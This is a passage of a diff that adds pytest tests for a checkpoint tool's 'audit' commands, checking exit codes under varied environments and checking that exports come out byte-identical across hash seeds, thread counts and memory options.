+    assert run("audit", "verify", a, "-q")[0] == 0
+    for how in ([], ["--json"]):  # a process of its own, whose output is what the environment says
+        env = os.environ | {"PYTHONIOENCODING": "utf-8:strict"}
+        command = [sys.executable, "-m", "ckpttool", "audit", "list", str(tmp_path), *how]
+        assert subprocess.run(command, env=env, capture_output=True, check=False).returncode == 0
+    code, _ = run("audit", "export", state, tmp_path / f"{odd}.tar.zst", "-q")
+    assert code in {0, 2, 3}
+
+
+def test_the_same_bytes_whatever_hashes_and_threads(tmp_path: Path) -> None:
+    state, found = state_of(tmp_path / "s.pt", 2), set()
+    for seed, jobs, more in (("0", "1", []), ("1", "3", ["--max-memory", "80MB"]), ("77", "2", ["--no-verify"])):
+        path = tmp_path / seed / "a.tar.zst"
+        path.parent.mkdir()
+        words = ["audit", "export", str(state), str(path), "--shuffle", "--reproducible", "-q", "-j", jobs, *more]
+        env = os.environ | {"PYTHONHASHSEED": seed, "SOURCE_DATE_EPOCH": "1700000000", "TZ": "Asia/Kathmandu"}
+        subprocess.run([sys.executable, "-m", "ckpttool", *words], env=env, check=True, capture_output=True)
+        found.add(path.read_bytes())
+    assert len(found) == 1
